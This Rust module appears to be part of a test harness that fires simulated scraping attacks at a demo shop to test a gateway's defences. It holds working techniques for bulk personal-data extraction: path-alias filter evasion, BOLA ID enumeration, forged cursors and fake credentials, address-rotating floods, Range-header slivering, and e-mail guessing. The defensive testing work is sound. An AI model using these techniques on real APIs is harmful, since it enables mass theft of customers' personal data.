//! What each attack sends, in which order, from where.

use std::sync::Arc;

use anyhow::Context as _;

use super::crowds;
use super::engine::{Engine, Shot, Volley};
use super::{Attack, Field};
use crate::client::Ask;
use crate::dice::Dice;
use crate::directory::{CUSTOMERS, Customer, Directory, FIRST_CUSTOMER, FIRST_ORDER};
use crate::places::{ATTACKER, flood_source};
use crate::shop::{Door, OPEN_DOORS, cursor_after, keys};

/// Spellings of `/api/customers` that all reach the hole of the demo shop.
pub const ALIASES: [&str; 16] = [
    "/api/customers",
    "//api/customers",
    "/api//customers",
    "/api/customers/",
    "/api/./customers",
    "/api/x/../customers",
    "/api/%63ustomers",
    "/%61pi/customers",
    "/api/%2e/customers",
    "/api/%2E/customers",
    "/api/x/%2e%2E/customers",
    "/api%2fcustomers",
    "/api%2Fcustomers",
    "/api;x=1/customers",
    "/api/customers;x=1",
    "/API/Customers",
];

/// Records on a page of the incident.
const BATCH: usize = 10;

/// The attacker's own credential on every second request, if it has one.
#[derive(Clone, Debug, Default)]
pub(super) struct Papers(pub(super) Option<Arc<str>>);

impl Papers {
    pub(super) fn on(&self, turn: usize, ask: Ask) -> Ask {
        match &self.0 {
            Some(token) if turn % 2 == 1 => ask.bearer(token),
            _ => ask,
        }
    }
}

/// Fires what `attack` consists of.
pub(super) async fn carry_out(attack: Attack, field: &Field, engine: &Engine) -> anyhow::Result<()> {
    let papers = if field.signs_up { sign_up(engine, field).await } else { Papers::default() };
    let directory = Arc::clone(&field.directory);
    let seed = field.seed;
    match attack {
        Attack::PostBatches => engine.fire(batches(papers)).await,
        Attack::Parallel200 => engine.fire(Volley { lanes: 200, at_once: true, ..batches(papers) }).await,
        Attack::QueryIds => engine.fire(each(papers, |n| query_id(FIRST_CUSTOMER + n))).await,
        Attack::PathIdsBola => bola(engine, field, papers).await,
        Attack::Shuffled => engine.fire(shuffled(papers, seed)).await,
        Attack::Uuid => engine.fire(uuids(papers, directory)).await,
        Attack::Bulk => {
            for size in [100, 20, 10, 1] {
                engine.fire(bulk(papers.clone(), size)).await;
            }
        }
        Attack::Cursor => cursor(engine, papers).await,
        Attack::FreshTokenEach => engine.fire(fresh_tokens(seed)).await,
        Attack::FreshLoginEach => fresh_log_ins(engine, field, false).await,
        Attack::FreshNameEach => fresh_log_ins(engine, field, true).await,
        Attack::AliasedPaths => engine.fire(aliases(papers)).await,
        Attack::RangeAndCsv => ranges(engine, papers).await,
        Attack::RangeSlivers => slivers(engine).await,
        Attack::AliasedFlood => engine.fire(aliased_flood()).await,
        Attack::OversizePage => engine.fire(oversize(papers)).await,
        Attack::ManyEndpoints => engine.fire(many_doors(papers, directory)).await,
        Attack::Restart => {
            engine.fire(Volley { shots: 1, ..batches(papers.clone()) }).await;
            (field.restart)().await.context("restart the gateway after the first batch")?;
            engine.fire(batches(papers.clone())).await;
            (field.restart)().await.context("restart the gateway after containment")?;
            engine.fire(batches(papers)).await;
        }
        Attack::EvictFlood => {
            engine.fire(batches(papers.clone())).await;
            engine.fire(flood(field.bounds.flood, seed)).await;
            engine.fire(batches(papers)).await;
        }
        Attack::Stolen => stolen(engine).await?,
        Attack::GuestHarvest => engine.fire(guesses(&field.directory, seed, field.bounds.guesses)).await,
        Attack::ManyAddresses50 => engine.fire(crowds::upwards(50, 40)).await,
        Attack::ManyAddresses500 => engine.fire(crowds::shuffled(500, 10, seed)).await,
        Attack::ManyTokens50 => crowds::tokens(engine, 50, seed).await,
        Attack::Ipv6Block => engine.fire(crowds::block(500, seed)).await,
        Attack::Diluted => crowds::diluted(engine, field, papers).await,
        Attack::Slow => crowds::slow(engine, field).await,
        Attack::Adaptive => engine.fire(crowds::just_below(directory, seed)).await,
        Attack::InducedQuarantine => crowds::every_alarm(engine, field).await,
        // One after the other, so that the records before the touch can be counted.
        Attack::Canary => {
            engine.fire(Volley { lanes: 1, ..each(papers, |n| query_id(FIRST_CUSTOMER + n)) }).await;
        }
    }
    Ok(())
}

/// The attacker becomes a customer like any other; without a token where that is refused.
pub(super) async fn sign_up(engine: &Engine, field: &Field) -> Papers {
    let mail = format!("mallory.{:08x}@example.net", Dice::new(field.seed).roll() >> 32);
    let ask = Ask::post("/api/signup", format!(r#"{{"name":"Mallory","email":"{mail}","password":"m"}}"#));
    let answer = engine.send(&mut engine.client(ATTACKER), &ask).await;
    let token = answer.ok().and_then(|answer| answer.json().get("access_token")?.as_str().map(Arc::from));
    Papers(token)
}

pub(super) fn from_attacker(ask: Ask) -> Shot {
    Shot { from: ATTACKER, ask }
}

pub(super) fn number(turn: usize) -> u64 {
    u64::try_from(turn).unwrap_or(u64::MAX)
}

pub(super) fn query_id(id: u64) -> Ask {
    Ask::get(format!("/api/customers?id={id}"))
}

pub(super) fn page(target: &str, page: usize, size: usize) -> Ask {
    Ask::post(target, format!(r#"{{"page":{page},"size":{size}}}"#))
}

/// One request for each of the 27,000.
fn each(papers: Papers, ask: impl Fn(u64) -> Ask + Send + Sync + 'static) -> Volley {
    Volley::new(CUSTOMERS, move |turn| from_attacker(papers.on(turn, ask(number(turn)))))
}

fn batches(papers: Papers) -> Volley {
    Volley::new(CUSTOMERS / BATCH, move |turn| {
        from_attacker(papers.on(turn, page("/api/customers", turn + 1, BATCH)))
    })
}

fn aliases(papers: Papers) -> Volley {
    Volley::new(CUSTOMERS / BATCH, move |turn| {
        let alias = ALIASES.get(turn % ALIASES.len()).copied().unwrap_or("/api/customers");
        from_attacker(papers.on(turn, page(alias, turn + 1, BATCH)))
    })
}

async fn bola(engine: &Engine, field: &Field, papers: Papers) {
    let papers = if papers.0.is_some() { papers } else { sign_up(engine, field).await };
    let volley = Volley::new(CUSTOMERS, move |turn| {
        let ask = Ask::get(format!("/api/orders/{}", FIRST_ORDER + number(turn)));
        from_attacker(match &papers.0 {
            Some(token) => ask.bearer(token),
            None => ask,
        })
    });
    engine.fire(volley).await;
}

fn shuffled(papers: Papers, seed: u64) -> Volley {
    let mut ids: Vec<u64> = (FIRST_CUSTOMER..).take(CUSTOMERS).collect();
    Dice::new(seed ^ 0x5fff).shuffle(&mut ids);
    Volley::new(CUSTOMERS + CUSTOMERS / 2, move |turn| {
        let at = turn / 3 * 2 + turn % 3;
        from_attacker(match ids.get(at).filter(|_| turn % 3 < 2) {
            Some(id) => papers.on(at, query_id(*id)),
            None => Ask::get(format!("/catalogue/products?page={}", turn % 40 + 1)),
        })
    })
}

fn uuids(papers: Papers, directory: Arc<Directory>) -> Volley {
    Volley::new(CUSTOMERS, move |turn| {
        let uuid = directory.customers().get(turn).map_or("", |one| one.uuid.as_str());
        from_attacker(papers.on(turn, Ask::get(format!("/api/profiles/{uuid}"))))
    })
}

pub(super) fn bulk_ask(ids: impl Iterator<Item = u64>) -> Ask {
    let ids: Vec<String> = ids.map(|id| id.to_string()).collect();
    Ask::post("/api/customers/bulk", format!(r#"{{"ids":[{}]}}"#, ids.join(",")))
}

fn bulk(papers: Papers, size: usize) -> Volley {
    Volley::new(CUSTOMERS / size, move |turn| {
        let first = FIRST_CUSTOMER + number(turn * size);
        from_attacker(papers.on(turn, bulk_ask((first..).take(size))))
    })
}

/// Follows `next`; where the answer gives none, forges the cursor behind the fifty it wanted.
async fn cursor(engine: &Engine, papers: Papers) {
    const LIMIT: usize = 50;
    let mut client = engine.client(ATTACKER);
    let mut cursor = cursor_after(FIRST_CUSTOMER - 1);
    for turn in 0..CUSTOMERS / LIMIT {
        if engine.is_over() {
            return;
        }
        let ask = papers.on(turn, Ask::get(format!("/api/customers/feed?limit={LIMIT}&cursor={cursor}")));
        let answer = engine.send(&mut client, &ask).await;
        let next = answer.ok().and_then(|answer| answer.json().get("next")?.as_str().map(str::to_owned));
        let forged = || cursor_after(FIRST_CUSTOMER - 1 + number((turn + 1) * LIMIT));
        cursor = next.unwrap_or_else(forged);
    }
}

/// A credential nobody issued, another one for every turn, in the shapes that applications use.
fn made_up(ask: Ask, seed: u64, turn: usize) -> Ask {
    let mut dice = Dice::new(seed ^ number(turn).wrapping_mul(0x1_0001));
    let (a, b, c) = (dice.roll(), dice.roll(), dice.roll());
    match turn % 4 {
        0 => ask.bearer(&format!("eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ{a:x}.{b:016x}{c:016x}")),
        1 => ask.bearer(&format!("{a:016x}{b:016x}")),
        2 => ask.with("cookie", format!("session={a:016x}{b:016x}")),
        _ => ask.with("x-api-key", format!("key-{a:016x}")),
    }
}

fn fresh_tokens(seed: u64) -> Volley {
    Volley::new(CUSTOMERS / BATCH, move |turn| {
        from_attacker(made_up(page("/api/customers", turn + 1, BATCH), seed, turn))
    })
}

/// A session for each record, and each record by the next of six doors: four that show contacts and
/// numbers, one that shows a phone and one that shows a street beside the number. Sessions come by
/// sign-up and by log-in with that account in turn; or, `by_name`, from customers' accounts that the
/// attacker holds. What such an account itself is told of counts as any other record.
async fn fresh_log_ins(engine: &Engine, field: &Field, by_name: bool) {
    /// Each costs two requests and the shop a signature: enough to tell a leak from none.
    const RECORDS: usize = 3_000;
    let mut client = engine.client(ATTACKER);
    let mut mail = String::new();
    let customers = field.directory.customers();
    for (turn, one) in customers.iter().enumerate().take(RECORDS) {
        if engine.is_over() {
            return;
        }
        let ask = match customers.get(CUSTOMERS - 1 - turn % (CUSTOMERS / 2)).filter(|_| by_name) {
            Some(held) => {
                let user = format!("customer-{}", held.id);
                Ask::post(
                    "/api/login",
                    serde_json::json!({ "user": user, "password": held.password() }).to_string(),
                )
            }
            None if turn % 2 == 0 => {
                mail = format!("mallory.{:08x}.{turn}@example.net", Dice::new(field.seed).roll() >> 32);
                Ask::post("/api/signup", format!(r#"{{"name":"Mallory","email":"{mail}","password":"m"}}"#))
            }
            None => Ask::post("/api/login", format!(r#"{{"email":"{mail}","password":"m"}}"#)),
        };
        let answer = engine.send(&mut client, &ask).await;
        let token =
            answer.ok().and_then(|answer| Some(answer.json().get("access_token")?.as_str()?.to_owned()));
        let Some(token) = token else { continue };
        let order = field.directory.orders_of(one.id).first().copied().unwrap_or(FIRST_ORDER);
        let ask = match turn % 6 {
            0 => Ask::get(format!("/api/orders/{order}")),
            1 => Ask::get(format!("/api/profiles/{}", one.uuid)),
            2 => Ask::get(format!("/api/contacts/{}", one.id)),
            3 => Ask::get(format!("/api/invoices/{}", one.id)),
            4 => Ask::get(format!("/api/addresses/{}", one.id)),
            _ => Ask::get(format!("/api/v1/users/{}", one.id)),
        };
        // What came is counted already.
        let _counted = engine.send(&mut client, &ask.bearer(&token)).await;
    }
}

async fn ranges(engine: &Engine, papers: Papers) {
    const SLICE: usize = 16 * 1024;
    let by_range = papers.clone();
    engine
        .fire(Volley::new((6 << 20) / SLICE, move |turn| {
            let (first, last) = (turn * SLICE, (turn + 1) * SLICE - 1);
            let ask = Ask::get("/api/export.csv").with("range", format!("bytes={first}-{last}"));
            from_attacker(by_range.on(turn / 2, ask))
        }))
        .await;
    let whole = move |turn| {
        let packing = if turn % 2 == 0 { "gzip" } else { "identity" };
        from_attacker(papers.on(turn / 2, Ask::get("/api/export.csv").with("accept-encoding", packing)))
    };
    engine.fire(Volley { lanes: 1, ..Volley::new(8, whole) }).await;
}

/// No sliver holds an e-mail or a telephone number; all of them together do.
async fn slivers(engine: &Engine) {
    const SLIVER: usize = 12;
    const WANTED: usize = 12 << 10;
    let mut client = engine.client(ATTACKER);
    let mut text = Vec::new();
    for first in (0..WANTED).step_by(SLIVER) {
        if engine.is_at_an_end() {
            break;
        }
        let range = format!("bytes={first}-{}", first + SLIVER - 1);
        let answer = engine.send(&mut client, &Ask::get("/api/export.csv").with("range", range)).await;
        if let Ok(answer) = answer.map(|answer| answer.body).map(|body| body.to_vec()) {
            text.extend(answer.into_iter().take(SLIVER));
        }
    }
    engine.put_together(&text);
}

/// Ten people by each of many addresses, no address and no spelling twice in a row.
fn aliased_flood() -> Volley {
    const ADDRESSES: usize = 400;
    let shot = move |turn: usize| {
        let alias = ALIASES.get(turn % ALIASES.len()).copied().unwrap_or("/api/customers");
        Shot { from: flood_source(turn), ask: page(alias, turn + 1, BATCH) }
    };
    Volley { stubborn: true, ..Volley::new(ADDRESSES, shot) }
}

fn oversize(papers: Papers) -> Volley {
    const SIZES: [usize; 12] = [100_000, 27_000, 10_000, 5_000, 1_000, 500, 200, 100, 50, 25, 20, 10];
    const TRIES: usize = 6;
    let shot = move |turn: usize| {
        let size = SIZES.get(turn / TRIES).copied().unwrap_or(BATCH);
        from_attacker(papers.on(turn, page("/api/customers", turn % TRIES + 1, size)))
    };
    Volley { lanes: 1, ..Volley::new(SIZES.len() * TRIES, shot) }
}

fn many_doors(papers: Papers, directory: Arc<Directory>) -> Volley {
    Volley::new(CUSTOMERS, move |turn| {
        let Some(one) = directory.customers().get(turn) else { return from_attacker(Ask::get("/")) };
        let door = OPEN_DOORS.get(turn % OPEN_DOORS.len()).copied().unwrap_or(Door::Customers);
        from_attacker(papers.on(turn / OPEN_DOORS.len(), at_door(door, one, turn)))
    })
}

/// `one`, who is the one `at` that place of the directory, by one of [`OPEN_DOORS`].
pub(super) fn at_door(door: Door, one: &Customer, at: usize) -> Ask {
    let id = one.id;
    match door {
        Door::CustomerQuery => query_id(id),
        Door::CustomerPath => Ask::get(format!("/api/customers/{id}")),
        Door::Bulk => bulk_ask([id].into_iter()),
        Door::Feed => Ask::get(format!("/api/customers/feed?limit=1&cursor={}", cursor_after(id - 1))),
        Door::Profile => Ask::get(format!("/api/profiles/{}", one.uuid)),
        Door::UserV1 => Ask::get(format!("/api/v1/users/{id}")),
        Door::UserV2 => Ask::get(format!("/api/v2/users?id={id}")),
        Door::Contact => Ask::get(format!("/api/contacts/{id}")),
        Door::Address => Ask::get(format!("/api/addresses/{id}")),
        Door::Invoice => Ask::get(format!("/api/invoices/{id}")),
        Door::Search => Ask::get(format!("/api/search?q={id}")),
        _ => page("/api/customers", at + 1, 1),
    }
}

/// One record by one request from each of many addresses, each with its own made-up credential.
fn flood(addresses: usize, seed: u64) -> Volley {
    let shot = move |turn: usize| {
        // From the far end, so that a straight attack still finds its pages untouched.
        let ask = page("/api/customers", CUSTOMERS - turn % CUSTOMERS, 1);
        Shot { from: flood_source(turn), ask: made_up(ask, seed ^ 0xf100d, turn) }
    };
    Volley { lanes: 16, stubborn: true, ..Volley::new(addresses, shot) }
}

/// A staff token at its own door and at one that is not its, then a partner's key from the far end.
async fn stolen(engine: &Engine) -> anyhow::Result<()> {
    let token: Arc<str> = keys::token("staff-13", "staff").context("mint a staff token")?.into();
    let staff = Arc::clone(&token);
    let pages = |size: usize| CUSTOMERS / size;
    engine
        .fire(Volley::new(pages(25), move |turn| {
            from_attacker(Ask::get(format!("/api/staff/customers?size=25&page={}", turn + 1)).bearer(&staff))
        }))
        .await;
    let (_, key) = keys::PARTNERS[1];
    engine
        .fire(Volley::new(pages(100), move |turn| {
            let page = CUSTOMERS / 100 - turn;
            from_attacker(
                Ask::get(format!("/api/partner/shipments?size=100&page={page}")).with("x-api-key", key),
            )
        }))
        .await;
    engine
        .fire(Volley::new(CUSTOMERS, move |turn| {
            from_attacker(query_id(FIRST_CUSTOMER + number(turn)).bearer(&token))
        }))
        .await;
    Ok(())
}

/// Guessed e-mails: every tenth is somebody's, the others look the same.
fn guesses(directory: &Directory, seed: u64, many: usize) -> Volley {
    let mut dice = Dice::new(seed ^ 0x9e55);
    let mut mails: Vec<String> = (0..many)
        .map(|nth| {
            let one = directory.customers().get(dice.index(CUSTOMERS));
            let mail = one.map_or("", |one| one.email.as_str());
            if nth % 10 == 0 {
                directory.customers().get(nth % CUSTOMERS).map_or("", |one| one.email.as_str()).to_owned()
            } else {
                mail.replace('@', &format!("{}@", dice.below(10)))
            }
        })
        .collect();
    dice.shuffle(&mut mails);
    Volley::new(many, move |turn| {
        let mail = mails.get(turn).map_or("", String::as_str);
        from_attacker(Ask::post("/api/guest/orders", format!(r#"{{"email":"{mail}"}}"#)))
    })
}
